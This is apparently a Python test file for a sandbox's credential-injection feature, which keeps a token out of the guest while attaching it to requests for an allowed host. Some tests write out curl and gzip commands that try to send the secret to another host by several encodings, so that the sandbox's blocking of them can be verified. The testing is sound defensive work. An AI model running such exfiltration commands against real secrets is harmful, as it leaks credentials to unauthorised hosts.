#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Values that the code inside can use and never see (2.17 and 2.18 of the attack corpus), with real clients and servers."""

import base64
import gzip
import pathlib
import subprocess
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from door import GitHandler, Handler, Web, configure, fields, denials, on_every_door  # noqa: E402
from harness import brig, main, scratch, test  # noqa: E402

VALUE = "zq8Gk2vTn41Lw0bYd7Rm"


class Mirror(Handler):
    """Sends back what it got: in fields, plain, coded and compressed."""

    def do_GET(self):
        self.server.seen.append((self.requestline, fields(self.headers.items())))
        got = self.headers.get("Authorization", "") + " " + self.path
        kind = self.path.strip("/").split("?")[0]
        if kind == "gzip":
            self.answer(gzip.compress(got.encode() * 50), fields=[("Content-Encoding", "gzip")])
        elif kind == "base64":
            self.answer(base64.b64encode(got.encode()))
        elif kind == "slow":
            self.send_response(200)
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            for c in got.encode():
                self.chunk(bytes([c]))
            self.chunk(b"")
        else:
            self.answer(got.encode(), fields=[("X-Seen", self.headers.get("Authorization", ""))])


def run(config, line):
    return brig("run", "--json", "--config", config, "--", "sh", "-c", line, env={"TOKEN": VALUE}).json


def with_token(*servers, **credential):
    return configure(*servers, more={"credentials": {"TOKEN": {"host": "api.test", **credential}}})


@on_every_door
def a_token_reaches_its_host_and_the_guest_never_sees_it():
    with Web("api.test", handler=Mirror) as web:
        r = run(with_token(web), 'echo "$TOKEN"; env; for p in plain gzip base64 slow; do curl -sSi --compressed -H "Authorization: Bearer $TOKEN" '
                "https://api.test/$p; done")
        assert [f["Authorization"] for _, f in web.seen] == [f"Bearer {VALUE}"] * 4, (web.seen, r)
        assert {f["Accept-Encoding"] for _, f in web.seen} == {"identity"}, web.seen  # how well a value is packed beside a guess is not to be seen
        assert VALUE not in r["output"] and base64.b64encode(VALUE.encode()).decode()[2:-4] not in r["output"], r["output"]
        assert r["stdout"].startswith("brig-") and r["output"].count("brig-") > 4, r["output"]
        record = brig("audit", "list", "--json").text
        assert '"credential.inject"' in record and '"credential.scrub"' in record and VALUE not in record, record


@on_every_door
def a_placeholder_anywhere_else_is_a_denial():
    with Web("api.test", handler=Mirror) as web, Web("other.test", handler=Mirror) as other:
        r = run(with_token(web, other, methods=["GET"], paths=["/v1/"]), """
get() { curl -s -o /dev/null -w '%{http_code}\\n' "$@"; }
get -H "Authorization: Bearer $TOKEN" https://api.test/v1/x
get -H "Authorization: Bearer $TOKEN" https://other.test/v1/x
get -H "X-Request-Id: $TOKEN" https://api.test/v1/x
get "https://api.test/v1/?t=$TOKEN"
get -H "Authorization: Bearer $TOKEN" https://api.test/v2/x
get -X DELETE -H "Authorization: Bearer $TOKEN" https://api.test/v1/x""")
        assert r["stdout"].split() == ["200"] + ["403"] * 5, r
        assert not other.seen and len(web.seen) == 1, (web.seen, other.seen)
        assert {reason for _, reason in denials(r)} == {"credential-misuse"}, r["denials"]


@test
def nothing_is_injected_where_nothing_was_asked_for():
    with Web("api.test", handler=Mirror) as web, Web("other.test", handler=Mirror) as other:
        r = run(with_token(web, other), "curl -sS --compressed https://api.test/plain https://other.test/plain")
        assert "Authorization" not in web.seen[0][1] and web.seen[0][1]["Accept-Encoding"] == "identity", (web.seen, r)
        assert "gzip" in other.seen[0][1]["Accept-Encoding"], (other.seen, r)


@test
def a_secret_that_is_known_does_not_leave_by_another_way():
    encoded = base64.b64encode(VALUE.encode()).decode()
    with Web("api.test", handler=Mirror) as web, Web("other.test") as other:
        r = run(with_token(web, other), f"""
put() {{ curl -s -o /dev/null -w '%{{http_code}}\\n' "$@"; }}
put -d nothing https://other.test/
put -d 'a={VALUE}' https://other.test/
put -d 'a={encoded}' https://other.test/
put -H 'X: {VALUE}' https://other.test/
put 'https://other.test/?{VALUE}'
printf '{VALUE}' | gzip | put -H 'Content-Encoding: gzip' --data-binary @- https://other.test/
printf nothing | gzip | put -H 'Content-Encoding: gzip' --data-binary @- https://other.test/
printf nothing | put -H 'Content-Encoding: gzip' --data-binary @- https://other.test/
(head -c 300000 /dev/zero; printf %s {VALUE}; head -c 300000 /dev/zero) | put -T - https://other.test/""")
        assert r["stdout"].split() == ["200"] + ["403"] * 5 + ["200", "400", "403"], r
        assert VALUE not in str(other.seen) and len(other.seen) == 2, other.seen


@test
def git_works_with_a_token_the_guest_never_sees():
    class Guarded(GitHandler):
        password = VALUE

    repo = scratch() / "one.git"
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", repo], check=True)
    subprocess.run(["git", "-C", repo, "config", "http.receivepack", "true"], check=True)
    with Web("api.test", handler=Guarded) as web:
        r = run(with_token(web), """set -e
git config --global user.name me; git config --global user.email me@example.org
cd /tmp; git clone -q https://x:$TOKEN@api.test/one.git 2>/dev/null; cd one
echo 1 > file; git add file; git commit -qm one; git push -q origin HEAD:main; git fetch -q
git clone -q https://x:$TOKEN@api.test/one.git /tmp/two; cat /tmp/two/file
git -c core.askPass=true clone -q https://x:wrong@api.test/one.git /tmp/three 2>/dev/null || echo refused; cat .git/config; env""")
        assert r["stdout"].startswith("1\nrefused\n") and VALUE not in r["output"], r["output"]
        sent = [fields(f).get("Authorization") for _, f, _ in web.seen]
        assert "Basic " + base64.b64encode(f"x:{VALUE}".encode()).decode() in sent, sent
        assert any("git-receive-pack" in line for line, _, _ in web.seen), web.seen
        assert subprocess.run(["git", "-c", "safe.directory=*", "-C", repo, "show", "main:file"], stdout=subprocess.PIPE, check=True).stdout == b"1\n"


if __name__ == "__main__":
    sys.exit(main())
